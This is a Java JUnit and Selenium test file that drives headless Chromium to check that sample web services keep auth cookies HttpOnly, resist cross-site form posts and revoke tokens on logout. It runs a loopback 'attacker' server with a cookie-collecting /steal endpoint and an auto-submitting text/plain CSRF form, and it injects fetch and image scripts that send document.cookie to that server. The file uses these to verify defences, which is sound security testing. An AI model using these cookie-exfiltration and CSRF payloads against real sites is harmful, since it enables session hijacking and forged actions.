package dev.bulwark.samples.contract;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.sun.net.httpserver.HttpServer;
import dev.bulwark.testsupport.Poll;
import dev.bulwark.testsupport.RequiresService;
import dev.bulwark.testsupport.Service;
import java.io.File;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.function.BooleanSupplier;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.AfterParameterizedClassInvocation;
import org.junit.jupiter.params.BeforeParameterizedClassInvocation;
import org.junit.jupiter.params.Parameter;
import org.junit.jupiter.params.ParameterizedClass;
import org.junit.jupiter.params.provider.MethodSource;
import org.openqa.selenium.By;
import org.openqa.selenium.Cookie;
import org.openqa.selenium.JavascriptExecutor;
import org.openqa.selenium.chrome.ChromeDriver;
import org.openqa.selenium.chrome.ChromeDriverService;
import org.openqa.selenium.chrome.ChromeOptions;

/**
 * The XSS-prevention proofs in a real browser (Debian's headless Chromium driven by Selenium
 * through /usr/bin/chromedriver), against every sample's executable jar as {@link ContractIT}
 * starts it (same samples, same {@code -Dbulwark.contract.samples} selection, same environment):
 * page script cannot read the auth cookies, an injected script cannot send them elsewhere, a
 * cross-site form post is refused, logout really ends the session.
 */
@RequiresService(Service.CHROMIUM)
@ParameterizedClass(name = "{0}")
@MethodSource("dev.bulwark.samples.contract.ContractIT#samples")
class BrowserContractIT {

    static final String PASSWORD = ContractIT.ENV.get("DEMO_PASSWORD");
    static final HttpClient CLIENT = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();
    static final ObjectMapper JSON = new ObjectMapper();
    static final List<String> stolen = new CopyOnWriteArrayList<>();

    static Sample.Running running;
    static HttpServer attacker;
    static String base;
    static String evil;

    @Parameter
    Sample sample;

    @TempDir
    Path profile;
    ChromeDriver driver;

    @BeforeParameterizedClassInvocation
    static void start(Sample sample) throws Exception {
        stolen.clear();
        running = sample.start(ContractIT.ENV);
        base = running.base();
        attacker = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        evil = "http://127.0.0.1:" + attacker.getAddress().getPort();
        attacker.createContext("/steal", ex -> {
            stolen.add(ex.getRequestURI().getRawQuery() + " cookie=" + ex.getRequestHeaders().getFirst("Cookie"));
            ex.sendResponseHeaders(204, -1);
            ex.close();
        });
        attacker.createContext("/evil", ex -> {
            // A cross-site form post (text/plain JSON trick) that auto-submits to the service.
            String html = "<!doctype html><html><body><form id='f' method='POST' enctype='text/plain' action='" + base
                    + "/api/notes'><input name='{\"text\":\"pwned\",\"x\":\"' value='\"}'></form>"
                    + "<script>document.getElementById('f').submit();</script></body></html>";
            byte[] body = html.getBytes(StandardCharsets.UTF_8);
            ex.getResponseHeaders().set("Content-Type", "text/html");
            ex.sendResponseHeaders(200, body.length);
            try (OutputStream out = ex.getResponseBody()) {
                out.write(body);
            }
        });
        attacker.start();
    }

    @AfterParameterizedClassInvocation
    static void stop() {
        if (attacker != null) {
            attacker.stop(0);
            attacker = null;
        }
        if (running != null) {
            running.close();
            running = null;
        }
    }

    @BeforeEach
    void browser() {
        ChromeDriverService driverService = new ChromeDriverService.Builder()
                .usingDriverExecutable(new File("/usr/bin/chromedriver")).usingAnyFreePort().build();
        ChromeOptions options = new ChromeOptions();
        options.setBinary("/usr/bin/chromium");
        options.addArguments("--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
                "--disable-background-networking", "--disable-component-update", "--disable-sync", "--disable-quic",
                "--user-data-dir=" + profile);
        driver = new ChromeDriver(driverService, options);
        driver.manage().timeouts().pageLoadTimeout(Duration.ofSeconds(30));
        driver.manage().timeouts().scriptTimeout(Duration.ofSeconds(15));
    }

    @AfterEach
    void quit() {
        driver.quit();
    }

    static void waitFor(String what, BooleanSupplier condition) {
        Poll.until(Duration.ofSeconds(15), what, condition);
    }

    void logInThroughThePage() {
        driver.get(base + "/");
        driver.findElement(By.id("password")).sendKeys(PASSWORD);
        driver.findElement(By.id("login-button")).click();
        waitFor("the page shows the signed-in user", () -> "demo".equals(driver.findElement(By.id("who")).getText()));
    }

    Object script(String js) {
        return ((JavascriptExecutor) driver).executeAsyncScript(js);
    }

    /**
     * Saves a note through the HTTP API (its own login, the CSRF defence satisfied) and returns its
     * id: notes' ids are one identity column, so two such ids bracket every note saved between them.
     */
    static long noteThroughTheApi() throws Exception {
        HttpResponse<String> login = CLIENT.send(HttpRequest.newBuilder(URI.create(base + "/auth/login"))
                .header("Content-Type", "application/json").POST(HttpRequest.BodyPublishers.ofString(
                        "{\"username\":\"demo\",\"password\":\"" + PASSWORD + "\"}")).build(), HttpResponse.BodyHandlers.ofString());
        assertThat(login.statusCode()).as(login.body()).isEqualTo(200);
        StringBuilder cookies = new StringBuilder();
        String csrf = null;
        for (String c : login.headers().allValues("Set-Cookie")) {
            String pair = c.split(";", 2)[0];
            cookies.append(cookies.length() == 0 ? "" : "; ").append(pair);
            if (pair.startsWith("__Host-csrf=")) {
                csrf = pair.substring("__Host-csrf=".length());
            }
        }
        HttpResponse<String> note = CLIENT.send(HttpRequest.newBuilder(URI.create(base + "/api/notes"))
                .header("Cookie", cookies.toString()).header("Origin", base).header("X-CSRF-Token", String.valueOf(csrf))
                .header("Content-Type", "application/json").POST(HttpRequest.BodyPublishers.ofString("{\"text\":\"marker\"}"))
                .build(), HttpResponse.BodyHandlers.ofString());
        assertThat(note.statusCode()).as(note.body()).isEqualTo(201);
        return JSON.readTree(note.body()).get("id").asLong();
    }

    @Test
    void pageScriptCannotReadTheAuthCookies() {
        logInThroughThePage();

        String visible = (String) ((JavascriptExecutor) driver).executeScript("return document.cookie;");
        assertThat(visible).contains("__Host-csrf=").doesNotContain("__Host-access_token").doesNotContain("__Secure-refresh_token");
        Cookie access = driver.manage().getCookieNamed("__Host-access_token");
        assertThat(access).as("the browser holds the access cookie").isNotNull();
        assertThat(access.isHttpOnly()).isTrue();
        assertThat(access.isSecure()).isTrue();
        assertThat(access.getSameSite()).isEqualTo("Strict");
        assertThat(visible).doesNotContain(access.getValue());
    }

    @Test
    void anInjectedScriptCannotSendTheCookiesElsewhere() {
        logInThroughThePage();
        String token = driver.manage().getCookieNamed("__Host-access_token").getValue();

        Object fetched = script("const done = arguments[arguments.length - 1];"
                + "fetch('" + evil + "/steal?c=' + encodeURIComponent(document.cookie), {mode: 'no-cors', credentials: 'include'})"
                + ".then(() => done('sent'), e => done('blocked: ' + e));");
        Object image = script("const done = arguments[arguments.length - 1]; const i = new Image();"
                + "i.onload = () => done('loaded'); i.onerror = () => done('blocked');"
                + "i.src = '" + evil + "/steal?img=' + encodeURIComponent(document.cookie);");

        assertThat(fetched.toString()).startsWith("blocked");
        assertThat(image).isEqualTo("blocked");
        driver.get(evil + "/steal?probe=1");
        waitFor("the attacker saw the probe", () -> stolen.stream().anyMatch(r -> r.startsWith("probe=1")));
        assertThat(stolen).anySatisfy(r -> assertThat(r).startsWith("probe=1 cookie=null"));
        assertThat(stolen).allSatisfy(r -> assertThat(r).doesNotContain(token).doesNotContain("access_token"));
    }

    @Test
    void aCrossSiteFormPostIsRefused() throws Exception {
        logInThroughThePage();
        long before = noteThroughTheApi();

        driver.get(evil + "/evil");
        waitFor("the form post answered", () -> driver.getPageSource().contains("\"error\""));

        assertThat(driver.getPageSource()).containsAnyOf("missing_token", "csrf_origin", "csrf_token");
        driver.get(base + "/");
        driver.findElement(By.id("note-text")).sendKeys("from the real page");
        driver.findElement(By.id("note-button")).click();
        waitFor("the page's own note is saved", () -> driver.findElement(By.id("status")).getText().equals("note: 201"));
        assertThat(noteThroughTheApi()).as("only the page's own note was saved in between").isEqualTo(before + 2);
    }

    @Test
    void logoutReallyEndsTheSession() throws Exception {
        logInThroughThePage();
        String token = driver.manage().getCookieNamed("__Host-access_token").getValue();

        driver.findElement(By.id("logout-button")).click();
        waitFor("the page shows nobody", () -> "nobody".equals(driver.findElement(By.id("who")).getText()));

        assertThat(driver.manage().getCookieNamed("__Host-access_token")).isNull();
        assertThat(driver.manage().getCookieNamed("__Host-csrf")).isNull();
        HttpResponse<String> replay = CLIENT.send(HttpRequest.newBuilder(URI.create(base + "/api/me"))
                .header("Authorization", "Bearer " + token).build(), HttpResponse.BodyHandlers.ofString());
        assertThat(replay.statusCode()).isEqualTo(401);
        assertThat(replay.body()).contains("token_revoked");
    }
}
